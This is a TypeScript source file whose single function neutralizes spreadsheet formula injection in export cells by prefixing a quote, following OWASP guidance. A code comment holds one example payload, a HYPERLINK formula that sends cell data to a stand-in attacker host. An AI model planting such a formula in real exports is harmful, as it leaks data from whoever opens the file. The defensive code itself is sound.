// Spreadsheet formula ("CSV") injection: Excel, LibreOffice and Google Sheets treat a cell whose
// text begins with =, +, -, @ (and, in some versions, a leading tab or carriage return) as a
// formula. Program names, evidence notes and links are typed by users, so a value such as
// =HYPERLINK("https://evil.example/?"&A1,"Click") would run when a council member opens the export.
// Following the OWASP guidance (https://owasp.org/www-community/attacks/CSV_Injection), such
// strings get a leading single quote, which spreadsheets show as text and do not evaluate.
// The quote is visible in the raw CSV; that is the accepted trade-off.

const FORMULA_TRIGGERS = new Set(["=", "+", "-", "@", "\t", "\r"]);

/**
 * Makes one export cell safe to open in a spreadsheet.
 * - strings beginning with =, +, -, @, tab or carriage return get a leading `'`;
 * - other strings, numbers (negative ones included: they are data, not text) and null pass through;
 * - undefined becomes null (an empty cell);
 * - Dates become ISO 8601 UTC strings (e.g. 2025-03-01T14:05:00.000Z).
 */
export function neutralizeCell(value: string | number | null | undefined | Date): string | number | null {
  if (value === null || value === undefined) return null;
  if (typeof value === "number") return value;
  const text = value instanceof Date ? value.toISOString() : value;
  return FORMULA_TRIGGERS.has(text.charAt(0)) ? `'${text}` : text;
}
